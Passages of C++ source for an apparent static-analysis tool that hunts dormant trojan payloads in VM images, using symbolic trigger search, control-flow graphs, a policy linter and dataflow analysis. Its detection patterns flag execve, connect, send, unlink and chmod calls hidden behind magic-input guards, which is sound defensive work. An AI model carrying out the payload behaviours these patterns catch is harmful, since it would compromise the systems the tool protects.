        payloadHit(s, addr, "SYS_execve", 3, dataStr(
                       ebx.isAddr() ? ebx.v : 0));
        setEax(unknownS());
        return false;
    case os::NR_creat:
        payloadHit(s, addr, "SYS_creat", 2,
                   dataStr(ebx.isAddr() ? ebx.v : 0));
        setEax(unknownS());
        return false;
    case os::NR_unlink:
        payloadHit(s, addr, "SYS_unlink", 2,
                   dataStr(ebx.isAddr() ? ebx.v : 0));
        setEax(unknownS());
        return false;
    case os::NR_chmod:
        payloadHit(s, addr, "SYS_chmod", 2,
                   dataStr(ebx.isAddr() ? ebx.v : 0));
        setEax(unknownS());
        return false;
    case os::NR_write:
        // Writes to std streams are ordinary output; anything else
        // (unknown or opened descriptor) is a potential payload.
        if (!(ebx.k == SymVal::Const && ebx.v <= 2))
            payloadHit(s, addr, "SYS_write", 2, "");
        setEax(unknownS());
        return false;
    case os::NR_socketcall: {
        uint32_t op = ebx.k == SymVal::Const ? ebx.v : 0;
        auto argWord = [&](uint32_t i) -> SymVal {
            if (!ecx.isAddr())
                return unknownS();
            auto it = s.mem.find(ecx.v + i * 4);
            return it == s.mem.end() ? unknownS() : it->second;
        };
        switch (op) {
        case os::SOCKOP_connect: {
            SymVal aptr = argWord(1);
            payloadHit(s, addr, "SYS_connect", 3,
                       dataStr(aptr.isAddr() ? aptr.v : 0));
            break;
        }
        case os::SOCKOP_send:
            payloadHit(s, addr, "SYS_send", 2, "");
            break;
        case os::SOCKOP_recv: {
            SymVal buf = argWord(1), len = argWord(2);
            if (buf.isAddr()) {
                uint32_t n = len.k == SymVal::Const
                                 ? std::min<uint32_t>(len.v, 4096)
                                 : 64;
                s.regions.push_back({buf.v, buf.v + n, true});
            }
            break;
        }
        default:
            break;
        }
        setEax(unknownS());
        return false;
    }
    default:
        setEax(unknownS());
        return false;
    }
}

void
TriggerSearch::explore(uint32_t pc, PathState s, int depth)
{
    while (true) {
        if (++steps_ > MAX_STEPS || paths_ >= MAX_PATHS)
            break;
        if (pc >= cfg_.textSize())
            break;
        uint32_t bi = blockIdxByPc_[pc / INSN_SIZE];
        if (bi != NO_BLOCK && ++s.visits[bi] > MAX_BLOCK_VISITS)
            break;

        const Instruction &insn = cfg_.insnAt(pc);
        uint32_t next = pc + INSN_SIZE;
        switch (insn.op) {
        case Opcode::Halt:
            goto done;
        case Opcode::Jmp:
            next = (uint32_t)insn.imm;
            break;
        case Opcode::Jz:
        case Opcode::Jnz:
        case Opcode::Jl:
        case Opcode::Jge: {
            uint32_t tgt = (uint32_t)insn.imm;
            const SymFlags &f = s.flags;
            if (f.valid && f.lhs.concrete() && f.rhs.concrete()) {
                bool zf = f.lhs.v == f.rhs.v;
                bool sf = (int32_t)(f.lhs.v - f.rhs.v) < 0;
                bool taken = insn.op == Opcode::Jz    ? zf
                             : insn.op == Opcode::Jnz ? !zf
                             : insn.op == Opcode::Jl  ? sf
                                                      : !sf;
                if (taken)
                    next = tgt;
                break;
            }
            if (depth >= MAX_FORK_DEPTH)
                goto done;
            // Symbolic byte against a constant: both arms, each
            // with its guard predicate. Taken-arm comparisons
            // mirror Machine.cc exactly.
            if (f.valid && f.lhs.k == SymVal::InputByte &&
                f.rhs.k == SymVal::Const) {
                CmpOp takenOp = insn.op == Opcode::Jz    ? CmpOp::Eq
                                : insn.op == Opcode::Jnz ? CmpOp::Ne
                                : insn.op == Opcode::Jl  ? CmpOp::Lt
                                                         : CmpOp::Ge;
                CmpOp fallOp = insn.op == Opcode::Jz    ? CmpOp::Ne
                               : insn.op == Opcode::Jnz ? CmpOp::Eq
                               : insn.op == Opcode::Jl  ? CmpOp::Ge
                                                        : CmpOp::Lt;
                SymExpr expr{f.lhs.slot, f.lhs.ops};
                PathState tks = s;
                tks.constraints.push_back({expr, takenOp, f.rhs.v});
                explore(tgt, std::move(tks), depth + 1);
                s.constraints.push_back({expr, fallOp, f.rhs.v});
                break;  // continue on the fallthrough arm
            }
            // Opaque condition: both arms, no predicates.
            explore(tgt, s, depth + 1);
            break;
        }
        case Opcode::Cmp:
            s.flags = {true, s.regs[(size_t)insn.r1],
                       s.regs[(size_t)insn.r2]};
            break;
        case Opcode::CmpI:
            s.flags = {true, s.regs[(size_t)insn.r1],
                       {SymVal::Const, (uint32_t)insn.imm, -1, {}}};
            break;
        case Opcode::Call:
            if ((int)s.retStack.size() < MAX_CALL_DEPTH) {
                s.retStack.push_back(next);
                next = (uint32_t)insn.imm;
            } else {
                s.regs[(size_t)Reg::Eax] = unknownS();
                s.regs[(size_t)Reg::Ecx] = unknownS();
                s.regs[(size_t)Reg::Edx] = unknownS();
            }
            break;
        case Opcode::CallSym:
        case Opcode::CallR:
        case Opcode::Native:
            s.regs[(size_t)Reg::Eax] = unknownS();
            s.regs[(size_t)Reg::Ecx] = unknownS();
            s.regs[(size_t)Reg::Edx] = unknownS();
            break;
        case Opcode::Ret:
            if (s.retStack.empty())
                goto done;
            next = s.retStack.back();
            s.retStack.pop_back();
            break;
        case Opcode::Int80:
            if (modelSyscall(s, pc))
                goto done;
            break;
        default:
            applyInsn(s, insn, pc);
            break;
        }
        pc = next;
    }
done:
    ++paths_;
}

/** Immediate dominators (Cooper–Harvey–Kennedy): intersect idom
 * chains by reverse-postorder number instead of materializing full
 * dominator sets. The set-based formulation is quadratic in block
 * count — it alone dominated analyzeImage latency on large images —
 * while the strict dominators of a block are exactly its idom
 * chain, so nothing observable changes. */
void
TriggerSearch::computeDominators()
{
    const BasicBlock *ebb = cfg_.blockAt(image_.entry);
    if (!ebb)
        return;

    // Reverse postorder over reachable blocks (iterative DFS).
    std::vector<uint32_t> post;
    std::set<uint32_t> seen;
    std::vector<std::pair<uint32_t, size_t>> stack;
    stack.emplace_back(ebb->start, 0);
    seen.insert(ebb->start);
    while (!stack.empty()) {
        auto &[b, i] = stack.back();
        const BasicBlock &bb = cfg_.blocks.at(b);
        if (i < bb.succs.size()) {
            uint32_t s = bb.succs[i++];
            auto it = cfg_.blocks.find(s);
            if (it != cfg_.blocks.end() && it->second.reachable &&
                seen.insert(s).second)
                stack.emplace_back(s, 0);
        } else {
            post.push_back(b);
            stack.pop_back();
        }
    }
    std::vector<uint32_t> rpo(post.rbegin(), post.rend());
    for (size_t i = 0; i < rpo.size(); ++i)
        rpoNum_[rpo[i]] = i;

    auto intersect = [&](uint32_t a, uint32_t b) {
        while (a != b) {
            while (rpoNum_.at(a) > rpoNum_.at(b))
                a = idom_.at(a);
            while (rpoNum_.at(b) > rpoNum_.at(a))
                b = idom_.at(b);
        }
        return a;
    };

    idom_[ebb->start] = ebb->start;
    bool changed = true;
    while (changed) {
        changed = false;
        for (uint32_t b : rpo) {
            if (b == ebb->start)
                continue;
            uint32_t nidom = 0;
            bool have = false;
            for (uint32_t p : cfg_.blocks.at(b).preds) {
                if (!idom_.count(p))
                    continue;
                nidom = have ? intersect(nidom, p) : p;
                have = true;
            }
            if (!have)
                continue;
            auto it = idom_.find(b);
            if (it == idom_.end() || it->second != nidom) {
                idom_[b] = nidom;
                changed = true;
            }
        }
    }
}

std::vector<uint32_t>
TriggerSearch::sliceGuardsFor(uint32_t addr) const
{
    std::vector<uint32_t> guards;
    const BasicBlock *bb = cfg_.blockAt(addr);
    if (!bb)
        return guards;
    auto it = idom_.find(bb->start);
    if (it == idom_.end())
        return guards;
    // The strict dominators are the idom chain up to the entry
    // (which is its own idom).
    for (uint32_t d = it->second;; d = idom_.at(d)) {
        if (d != bb->start) {
            const BasicBlock &db = cfg_.blocks.at(d);
            const Instruction &last =
                cfg_.insnAt(db.end - INSN_SIZE);
            if (last.op == Opcode::Jz || last.op == Opcode::Jnz ||
                last.op == Opcode::Jl || last.op == Opcode::Jge)
                guards.push_back(db.end - INSN_SIZE);
        }
        if (idom_.at(d) == d)
            break;
    }
    std::sort(guards.begin(), guards.end());
    return guards;
}

TriggerResult
TriggerSearch::run()
{
    TriggerResult out;
    if (!cfg_.blockAt(image_.entry))
        return out;

    PathState init;
    init.visits.assign(nblocks_, 0);
    explore(image_.entry, std::move(init), 0);

    out.pathsExplored = paths_;
    out.solverIterations = solverIterations_;
    for (auto &[addr, h] : hyps_)
        out.hypotheses.push_back(std::move(h));
    return out;
}

} // namespace

TriggerResult
synthesizeTriggers(const Cfg &cfg)
{
    if (!cfg.image)
        return {};
    TriggerSearch search(cfg);
    return search.run();
}

} // namespace hth::analysis
