#include "analysis/Cfg.hh"

#include <algorithm>

#include "support/Logging.hh"

namespace hth::analysis
{

using vm::Instruction;
using vm::INSN_SIZE;
using vm::Opcode;

const BasicBlock *
Cfg::blockAt(uint32_t addr) const
{
    auto it = blocks.upper_bound(addr);
    if (it == blocks.begin())
        return nullptr;
    --it;
    const BasicBlock &bb = it->second;
    return (addr >= bb.start && addr < bb.end) ? &bb : nullptr;
}

size_t
Cfg::reachableBlocks() const
{
    size_t n = 0;
    for (const auto &[start, bb] : blocks)
        if (bb.reachable)
            ++n;
    return n;
}

std::set<uint32_t>
Cfg::reachableFrom(uint32_t addr) const
{
    std::set<uint32_t> seen;
    const BasicBlock *first = blockAt(addr);
    if (!first)
        return seen;
    std::vector<uint32_t> work{first->start};
    while (!work.empty()) {
        uint32_t cur = work.back();
        work.pop_back();
        if (!seen.insert(cur).second)
            continue;
        auto it = blocks.find(cur);
        if (it == blocks.end())
            continue;
        for (uint32_t s : it->second.succs)
            if (!seen.count(s))
                work.push_back(s);
    }
    return seen;
}

namespace
{

bool
isDirectBranch(Opcode op)
{
    switch (op) {
      case Opcode::Jmp:
      case Opcode::Jz:
      case Opcode::Jnz:
      case Opcode::Jl:
      case Opcode::Jge:
      case Opcode::Call:
        return true;
      default:
        return false;
    }
}

bool
isConditional(Opcode op)
{
    switch (op) {
      case Opcode::Jz:
      case Opcode::Jnz:
      case Opcode::Jl:
      case Opcode::Jge:
        return true;
      default:
        return false;
    }
}

} // namespace

Cfg
buildCfg(const vm::Image &image)
{
    Cfg cfg;
    cfg.image = &image;
    cfg.text = image.text;

    // Resolve relocations at base 0: immediates become image-relative
    // symbol addresses, exactly as the loader does with base added.
    for (const vm::Relocation &reloc : image.relocs) {
        fatalIf(reloc.textIndex >= cfg.text.size(),
                "buildCfg: relocation outside text");
        cfg.text[reloc.textIndex].imm =
            (int32_t)image.symbol(reloc.symbol);
        cfg.relocatedIndices.insert(reloc.textIndex);
    }

    const uint32_t text_size = cfg.textSize();

    // Leaders: entry, first instruction, direct-branch targets, and
    // the instruction after every control transfer.
    std::set<uint32_t> leaders;
    if (!cfg.text.empty())
        leaders.insert(0);
    if (image.entry < text_size)
        leaders.insert(image.entry);
    for (uint32_t i = 0; i < cfg.text.size(); ++i) {
        const Instruction &insn = cfg.text[i];
        uint32_t addr = i * INSN_SIZE;
        if (isDirectBranch(insn.op)) {
            uint32_t target = (uint32_t)insn.imm;
            if (target < text_size)
                leaders.insert(target);
            else
                cfg.jumpsOutOfText.push_back(addr);
        }
        if (vm::isControlTransfer(insn.op) &&
            addr + INSN_SIZE < text_size)
            leaders.insert(addr + INSN_SIZE);
    }

    // Carve blocks between consecutive leaders.
    for (auto it = leaders.begin(); it != leaders.end(); ++it) {
        BasicBlock bb;
        bb.start = *it;
        auto next = std::next(it);
        uint32_t limit = next == leaders.end() ? text_size : *next;
        bb.end = bb.start;
        while (bb.end < limit) {
            Opcode op = cfg.insnAt(bb.end).op;
            bb.end += INSN_SIZE;
            if (vm::isControlTransfer(op))
                break;
        }
        cfg.blocks[bb.start] = bb;
    }

    // Successor edges.
    for (auto &[start, bb] : cfg.blocks) {
        uint32_t last = bb.end - INSN_SIZE;
        const Instruction &insn = cfg.insnAt(last);
        uint32_t target = (uint32_t)insn.imm;
        auto addSucc = [&](uint32_t s) {
            if (s < text_size &&
                std::find(bb.succs.begin(), bb.succs.end(), s) ==
                    bb.succs.end())
                bb.succs.push_back(s);
        };
        switch (insn.op) {
          case Opcode::Jmp:
            addSucc(target);
            break;
          case Opcode::Jz:
          case Opcode::Jnz:
          case Opcode::Jl:
          case Opcode::Jge:
            addSucc(target);
            addSucc(bb.end);
            break;
          case Opcode::Call:
            // The callee is a successor (reachability follows calls)
            // and control also resumes after the call site.
            addSucc(target);
            addSucc(bb.end);
            cfg.calls.push_back({last, target});
            break;
          case Opcode::CallSym: {
            uint32_t idx = (uint32_t)insn.imm;
            std::string name = idx < image.imports.size()
                                   ? image.imports[idx]
                                   : "?";
            cfg.externCalls.push_back({last, name, false});
            addSucc(bb.end);
            break;
          }
          case Opcode::CallR:
            // Indirect: assume it returns, no static target.
            addSucc(bb.end);
            break;
          case Opcode::Ret:
          case Opcode::Halt:
            break;
          case Opcode::Int80:
            // A system call resumes at the next instruction (SYS_exit
            // never returns, but that needs dataflow to know).
            addSucc(bb.end);
            break;
          default:
            // Block was cut short by a leader: plain fallthrough.
            addSucc(bb.end);
            break;
        }
    }

    // Native call sites (Native is not a control transfer; scan all).
    for (uint32_t i = 0; i < cfg.text.size(); ++i) {
        const Instruction &insn = cfg.text[i];
        if (insn.op != Opcode::Native)
            continue;
        uint32_t idx = (uint32_t)insn.imm;
        std::string name =
            idx < image.natives.size() ? image.natives[idx] : "?";
        cfg.externCalls.push_back({i * INSN_SIZE, name, true});
    }

    // Predecessors.
    for (auto &[start, bb] : cfg.blocks)
        for (uint32_t s : bb.succs) {
            auto it = cfg.blocks.find(s);
            if (it != cfg.blocks.end())
                it->second.preds.push_back(start);
        }

    // Reachability from the entry point.
    if (!cfg.text.empty())
        for (uint32_t s : cfg.reachableFrom(image.entry))
            cfg.blocks[s].reachable = true;

    return cfg;
}

} // namespace hth::analysis
