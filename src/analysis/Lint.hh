/**
 * @file
 * Policy-rule linter for Secpert CLIPS rules.
 *
 * Built on the clips::Sexpr reader; checks rule files before they
 * are loaded into the engine:
 *
 *  - error: a variable used on a rule's RHS that is bound neither by
 *    an LHS pattern, a fact-address (`?f <-`), a deffunction
 *    parameter, nor any `(bind ...)` on the RHS;
 *  - error: a pattern or RHS `(assert ...)` naming a slot that the
 *    referenced deftemplate does not declare;
 *  - warning: a rule shadowed by a strictly-more-general rule (every
 *    pattern of the general rule subsumes one of the shadowed
 *    rule's, and the general rule adds no test/not conditions);
 *  - warning: a positive pattern that shares no variable with the
 *    patterns before it while further joins follow — under the Rete
 *    matcher that join is a cross product that every later join
 *    multiplies out (a *trailing* disconnected pattern is fine and
 *    stays quiet);
 *  - warning: a variable first bound inside a negated pattern that
 *    is then used in a later pattern or on the RHS — negated
 *    patterns export no bindings, so the use matches any value;
 *  - warning: a rule whose RHS raises a literal High-severity
 *    `(hth-warn 3 ...)` while no positive pattern binds any slot
 *    variable — the verdict's provenance graph would carry no
 *    evidence chain for `hthd --explain` to walk.
 *
 * Templates not declared in the linted source are skipped by the
 * slot check, so rule fragments can be linted standalone.
 */

#ifndef HTH_ANALYSIS_LINT_HH
#define HTH_ANALYSIS_LINT_HH

#include <string>
#include <vector>

namespace hth::analysis
{

/** One linter diagnostic. */
struct LintIssue
{
    enum class Severity
    {
        Warning,
        Error,
    };

    Severity severity = Severity::Error;
    std::string construct;  //!< rule / template the issue is in
    std::string message;

    bool isError() const { return severity == Severity::Error; }
};

/** Lint @p source (any mix of CLIPS constructs). */
std::vector<LintIssue> lintPolicy(const std::string &source);

/** True when any issue is an error. */
bool hasLintErrors(const std::vector<LintIssue> &issues);

/** Render issues for terminal output. */
std::string lintToString(const std::vector<LintIssue> &issues);

} // namespace hth::analysis

#endif // HTH_ANALYSIS_LINT_HH
