#include "analysis/Analyzer.hh"

#include <algorithm>
#include <array>
#include <deque>
#include <map>
#include <sstream>

#include "analysis/Taint.hh"
#include "analysis/Trigger.hh"
#include "os/Syscalls.hh"

namespace hth::analysis
{

using vm::Instruction;
using vm::INSN_SIZE;
using vm::Opcode;
using vm::Reg;

const char *
levelName(Level level)
{
    switch (level) {
      case Level::Info: return "INFO";
      case Level::Low: return "LOW";
      case Level::Medium: return "MEDIUM";
      case Level::High: return "HIGH";
    }
    return "?";
}

const char *
kindName(Kind kind)
{
    switch (kind) {
      case Kind::MagicGuard: return "MAGIC_GUARD";
      case Kind::DormantSyscall: return "DORMANT_SYSCALL";
      case Kind::StaticSyscall: return "STATIC_SYSCALL";
      case Kind::JumpOutOfText: return "JUMP_OUT_OF_TEXT";
      case Kind::StackImbalance: return "STACK_IMBALANCE";
      case Kind::UnreachableCode: return "UNREACHABLE_CODE";
      case Kind::TaintPath: return "TAINT_PATH";
      case Kind::TriggerHypothesis: return "TRIGGER_HYPOTHESIS";
    }
    return "?";
}

namespace
{

/** Abstract value of a register or tracked memory word. */
struct AbsVal
{
    enum K
    {
        Unknown,    //!< anything
        Const,      //!< a plain program constant
        DataAddr,   //!< an image-relative address (from a relocation)
        MemLoad,    //!< the content of image-relative address v
    };
    K k = Unknown;
    uint32_t v = 0;

    bool operator==(const AbsVal &) const = default;
    bool isAddr() const { return k == Const || k == DataAddr; }
};

AbsVal
unknown()
{
    return {};
}

/** The operands of the last Cmp/CmpI. */
struct Flags
{
    bool valid = false;
    AbsVal lhs, rhs;

    bool operator==(const Flags &) const = default;
};

/** Abstract push/pop depth (words), for imbalance detection. */
struct Depth
{
    bool known = false;
    int32_t d = 0;

    bool operator==(const Depth &) const = default;
};

/** Dataflow state at a program point. */
struct State
{
    std::array<AbsVal, vm::NUM_REGS> regs{};
    std::map<uint32_t, AbsVal> mem; //!< constant-addressed stores
    Flags flags;
    Depth depth;
};

AbsVal
joinVal(const AbsVal &a, const AbsVal &b)
{
    return a == b ? a : unknown();
}

State
joinState(const State &a, const State &b)
{
    State out;
    for (size_t i = 0; i < vm::NUM_REGS; ++i)
        out.regs[i] = joinVal(a.regs[i], b.regs[i]);
    for (const auto &[addr, val] : a.mem) {
        auto it = b.mem.find(addr);
        if (it != b.mem.end() && it->second == val)
            out.mem.emplace(addr, val);
    }
    if (a.flags == b.flags)
        out.flags = a.flags;
    if (a.depth == b.depth)
        out.depth = a.depth;
    return out;
}

bool
sameState(const State &a, const State &b)
{
    return a.regs == b.regs && a.mem == b.mem && a.flags == b.flags &&
           a.depth == b.depth;
}

/** A conditional branch whose flags the dataflow pass resolved. */
struct GuardCandidate
{
    uint32_t site = 0;
    Flags flags;
    uint32_t succTrue = 0;      //!< branch-taken block start
    uint32_t succFalse = 0;     //!< fallthrough block start
};

/** A `[start, end)` byte range a recv syscall writes into. */
struct RecvRange
{
    uint32_t start = 0;
    uint32_t end = 0;
};

/** The per-image analysis driver. */
class Analysis
{
  public:
    explicit Analysis(const vm::Image &image)
        : image_(image), cfg_(buildCfg(image))
    {
    }

    StaticReport run();

  private:
    AbsVal regVal(const State &s, Reg r) const
    {
        return s.regs[(size_t)r];
    }
    void setReg(State &s, Reg r, AbsVal v) const
    {
        s.regs[(size_t)r] = v;
    }

    void applyInsn(State &s, const Instruction &insn, uint32_t addr,
                   bool collect);
    void runFixpoint();
    void collect();
    void runTaintPass();
    void runTriggerPass();
    void visitSyscall(const State &s, uint32_t addr);
    void scanUnreachable();
    void findGuards();
    std::string dataString(const AbsVal &v) const;
    bool inRecvRange(uint32_t addr) const;
    static bool dangerousSyscall(const std::string &name);
    void addFinding(Kind kind, Level level, uint32_t addr,
                    std::string syscall, std::string resource,
                    std::string detail);

    const vm::Image &image_;
    Cfg cfg_;
    std::map<uint32_t, State> inState_;
    std::vector<GuardCandidate> guards_;
    std::vector<RecvRange> recvRanges_;
    StaticReport report_;
};

std::string
Analysis::dataString(const AbsVal &v) const
{
    if (v.k != AbsVal::DataAddr && v.k != AbsVal::Const)
        return "";
    uint32_t off = v.v;
    uint32_t data_base = image_.dataOffset();
    if (off < data_base || off >= data_base + image_.data.size())
        return "";
    std::string out;
    for (uint32_t i = off - data_base;
         i < image_.data.size() && out.size() < 64; ++i) {
        char c = (char)image_.data[i];
        if (c == '\0')
            break;
        out += (c >= 0x20 && c < 0x7f) ? c : '.';
    }
    return out;
}

bool
Analysis::inRecvRange(uint32_t addr) const
{
    for (const RecvRange &r : recvRanges_)
        if (addr >= r.start && addr < r.end)
            return true;
    return false;
}

bool
Analysis::dangerousSyscall(const std::string &name)
{
    return name == "SYS_execve" || name == "SYS_connect" ||
           name == "SYS_send" || name == "SYS_write" ||
           name == "SYS_creat" || name == "SYS_unlink" ||
           name == "SYS_chmod";
}

void
Analysis::addFinding(Kind kind, Level level, uint32_t addr,
                     std::string syscall, std::string resource,
                     std::string detail)
{
    Finding f;
    f.kind = kind;
    f.level = level;
    f.address = addr;
    f.syscall = std::move(syscall);
    f.resource = std::move(resource);
    f.detail = std::move(detail);
    report_.findings.push_back(std::move(f));
}

void
Analysis::visitSyscall(const State &s, uint32_t addr)
{
    AbsVal nr = regVal(s, Reg::Eax);
    if (nr.k != AbsVal::Const) {
        report_.syscalls.push_back({addr, "SYS_?", true, false, ""});
        return;
    }

    SyscallSite site;
    site.address = addr;
    site.reachable = true;

    AbsVal ebx = regVal(s, Reg::Ebx);
    AbsVal ecx = regVal(s, Reg::Ecx);

    auto nameArg = [&](const char *name, const AbsVal &arg) {
        site.name = name;
        site.resource = dataString(arg);
        site.resourceInData = !site.resource.empty();
    };

    switch (nr.v) {
      case os::NR_execve:
        nameArg("SYS_execve", ebx);
        break;
      case os::NR_open:
        nameArg("SYS_open", ebx);
        break;
      case os::NR_creat:
        nameArg("SYS_creat", ebx);
        break;
      case os::NR_unlink:
        nameArg("SYS_unlink", ebx);
        break;
      case os::NR_chmod:
        nameArg("SYS_chmod", ebx);
        break;
      case os::NR_write:
        site.name = "SYS_write";
        break;
      case os::NR_exit:
        site.name = "SYS_exit";
        break;
      case os::NR_socketcall: {
        uint32_t op = ebx.k == AbsVal::Const ? ebx.v : 0;
        // The i386 convention: ECX points at the argument block.
        auto argWord = [&](uint32_t idx) -> AbsVal {
            if (!ecx.isAddr())
                return unknown();
            auto it = s.mem.find(ecx.v + idx * 4);
            return it == s.mem.end() ? unknown() : it->second;
        };
        switch (op) {
          case os::SOCKOP_connect:
            nameArg("SYS_connect", argWord(1));
            break;
          case os::SOCKOP_bind:
            nameArg("SYS_bind", argWord(1));
            break;
          case os::SOCKOP_send:
            site.name = "SYS_send";
            break;
          case os::SOCKOP_recv: {
            site.name = "SYS_recv";
            AbsVal buf = argWord(1);
            AbsVal len = argWord(2);
            if (buf.isAddr()) {
                uint32_t n =
                    len.k == AbsVal::Const ? len.v : 4096;
                recvRanges_.push_back({buf.v, buf.v + n});
            }
            break;
          }
          default:
            site.name = "SYS_socketcall";
            break;
        }
        break;
      }
      default:
        site.name = "SYS_" + std::to_string(nr.v);
        break;
    }
    report_.syscalls.push_back(std::move(site));
}

void
Analysis::applyInsn(State &s, const Instruction &insn, uint32_t addr,
                    bool collect)
{
    uint32_t idx = addr / INSN_SIZE;
    bool relocated = cfg_.relocatedIndices.count(idx) != 0;
    AbsVal a = regVal(s, insn.r1);
    AbsVal b = regVal(s, insn.r2);

    auto foldBin = [&](auto op) -> AbsVal {
        if (a.k == AbsVal::Const && b.k == AbsVal::Const)
            return {AbsVal::Const, op(a.v, b.v)};
        return unknown();
    };
    auto addImm = [&](const AbsVal &base, int32_t imm) -> AbsVal {
        if (base.k == AbsVal::Const || base.k == AbsVal::DataAddr)
            return {base.k, base.v + (uint32_t)imm};
        return unknown();
    };
    auto clobberCallerSaved = [&] {
        setReg(s, Reg::Eax, unknown());
        setReg(s, Reg::Ecx, unknown());
        setReg(s, Reg::Edx, unknown());
        s.mem.clear();
        s.flags = Flags{};
    };

    switch (insn.op) {
      case Opcode::MovRR:
        setReg(s, insn.r1, b);
        break;
      case Opcode::MovRI:
        setReg(s, insn.r1,
               {relocated ? AbsVal::DataAddr : AbsVal::Const,
                (uint32_t)insn.imm});
        break;
      case Opcode::Lea:
        setReg(s, insn.r1, addImm(b, insn.imm));
        break;
      case Opcode::Load:
      case Opcode::LoadB:
        if (b.isAddr()) {
            uint32_t at = b.v + (uint32_t)insn.imm;
            auto it = s.mem.find(at);
            setReg(s, insn.r1,
                   it != s.mem.end() ? it->second
                                     : AbsVal{AbsVal::MemLoad, at});
        } else {
            setReg(s, insn.r1, unknown());
        }
        break;
      case Opcode::Store:
      case Opcode::StoreB:
        if (b.isAddr())
            s.mem[b.v + (uint32_t)insn.imm] = a;
        else
            s.mem.clear();
        break;
      case Opcode::Push:
      case Opcode::PushI:
        if (s.depth.known)
            ++s.depth.d;
        break;
      case Opcode::Pop:
        setReg(s, insn.r1, unknown());
        if (s.depth.known)
            --s.depth.d;
        break;
      case Opcode::Add:
        if (a.k == AbsVal::DataAddr && b.k == AbsVal::Const)
            setReg(s, insn.r1, {AbsVal::DataAddr, a.v + b.v});
        else if (a.k == AbsVal::Const && b.k == AbsVal::DataAddr)
            setReg(s, insn.r1, {AbsVal::DataAddr, a.v + b.v});
        else
            setReg(s, insn.r1,
                   foldBin([](uint32_t x, uint32_t y) {
                       return x + y;
                   }));
        break;
      case Opcode::AddI:
        if (insn.r1 == Reg::Esp) {
            if (s.depth.known)
                s.depth.d -= insn.imm / (int32_t)INSN_SIZE;
        } else {
            setReg(s, insn.r1, addImm(a, insn.imm));
        }
        break;
      case Opcode::Sub:
        if (insn.r1 == Reg::Esp)
            s.depth.known = false;
        setReg(s, insn.r1, foldBin([](uint32_t x, uint32_t y) {
                   return x - y;
               }));
        break;
      case Opcode::And:
        setReg(s, insn.r1, foldBin([](uint32_t x, uint32_t y) {
                   return x & y;
               }));
        break;
      case Opcode::Or:
        setReg(s, insn.r1, foldBin([](uint32_t x, uint32_t y) {
                   return x | y;
               }));
        break;
      case Opcode::Xor:
        if (insn.r1 == insn.r2)
            setReg(s, insn.r1, {AbsVal::Const, 0});
        else
            setReg(s, insn.r1, foldBin([](uint32_t x, uint32_t y) {
                       return x ^ y;
                   }));
        break;
      case Opcode::Mul:
        setReg(s, insn.r1, foldBin([](uint32_t x, uint32_t y) {
                   return x * y;
               }));
        break;
      case Opcode::Shl:
        setReg(s, insn.r1,
               a.k == AbsVal::Const
                   ? AbsVal{AbsVal::Const, a.v << (insn.imm & 31)}
                   : unknown());
        break;
      case Opcode::Shr:
        setReg(s, insn.r1,
               a.k == AbsVal::Const
                   ? AbsVal{AbsVal::Const, a.v >> (insn.imm & 31)}
                   : unknown());
        break;
      case Opcode::Cmp:
        s.flags = {true, a, b};
        break;
      case Opcode::CmpI:
        s.flags = {true, a, {AbsVal::Const, (uint32_t)insn.imm}};
        break;
      case Opcode::Int80:
        if (collect)
            visitSyscall(s, addr);
        setReg(s, Reg::Eax, unknown());
        break;
      case Opcode::CpuId:
        setReg(s, Reg::Eax, unknown());
        setReg(s, Reg::Ebx, unknown());
        setReg(s, Reg::Ecx, unknown());
        setReg(s, Reg::Edx, unknown());
        break;
      case Opcode::Native:
        // A native library routine: assume the i386 cdecl contract
        // (EAX/ECX/EDX caller-saved) and drop tracked memory, since
        // routines like strcpy write guest memory.
        clobberCallerSaved();
        break;
      case Opcode::Halt:
      case Opcode::Nop:
      case Opcode::Jmp:
      case Opcode::Jz:
      case Opcode::Jnz:
      case Opcode::Jl:
      case Opcode::Jge:
      case Opcode::Ret:
        break;
      case Opcode::Call:
      case Opcode::CallSym:
      case Opcode::CallR:
        // Handled per-edge by the propagation loop.
        break;
      default:
        break;
    }
}

void
Analysis::runFixpoint()
{
    const BasicBlock *entryBlock = cfg_.blockAt(image_.entry);
    if (!entryBlock)
        return;

    State entry;
    entry.depth = {true, 0};
    inState_[entryBlock->start] = entry;

    // Direct-call targets start a fresh frame: depth 1 (the pushed
    // return address), whatever the call site's depth was.
    std::set<uint32_t> callTargets;
    for (const CallEdge &c : cfg_.calls) {
        const BasicBlock *bb = cfg_.blockAt(c.target);
        if (bb)
            callTargets.insert(bb->start);
    }

    std::deque<uint32_t> work{entryBlock->start};
    size_t budget = cfg_.blocks.size() * 256 + 1024;

    while (!work.empty() && budget-- > 0) {
        uint32_t start = work.front();
        work.pop_front();
        auto bit = cfg_.blocks.find(start);
        if (bit == cfg_.blocks.end())
            continue;
        const BasicBlock &bb = bit->second;

        State s = inState_[start];
        for (uint32_t addr = bb.start; addr < bb.end;
             addr += INSN_SIZE)
            applyInsn(s, cfg_.insnAt(addr), addr, false);

        const Instruction &last = cfg_.insnAt(bb.end - INSN_SIZE);
        for (uint32_t succ : bb.succs) {
            State out = s;
            if (last.op == Opcode::Call) {
                if (succ == (uint32_t)last.imm &&
                    callTargets.count(
                        cfg_.blockAt(succ)
                            ? cfg_.blockAt(succ)->start
                            : succ)) {
                    out.depth = {true, 1};
                } else {
                    // Resuming after the call: the callee may have
                    // changed anything.
                    out.regs.fill(unknown());
                    out.mem.clear();
                    out.flags = Flags{};
                }
            } else if (last.op == Opcode::CallSym ||
                       last.op == Opcode::CallR) {
                setReg(out, Reg::Eax, unknown());
                setReg(out, Reg::Ecx, unknown());
                setReg(out, Reg::Edx, unknown());
                out.mem.clear();
                out.flags = Flags{};
            }
            if (callTargets.count(succ) && last.op != Opcode::Call)
                out.depth = {true, 1};

            auto it = inState_.find(succ);
            if (it == inState_.end()) {
                inState_[succ] = out;
                work.push_back(succ);
            } else {
                State joined = joinState(it->second, out);
                if (!sameState(joined, it->second)) {
                    it->second = joined;
                    work.push_back(succ);
                }
            }
        }
    }
}

void
Analysis::collect()
{
    for (const auto &[start, in] : inState_) {
        auto bit = cfg_.blocks.find(start);
        if (bit == cfg_.blocks.end())
            continue;
        const BasicBlock &bb = bit->second;
        State s = in;
        for (uint32_t addr = bb.start; addr < bb.end;
             addr += INSN_SIZE)
            applyInsn(s, cfg_.insnAt(addr), addr, true);

        const Instruction &last = cfg_.insnAt(bb.end - INSN_SIZE);
        switch (last.op) {
          case Opcode::Jz:
          case Opcode::Jnz:
          case Opcode::Jl:
          case Opcode::Jge:
            if (s.flags.valid)
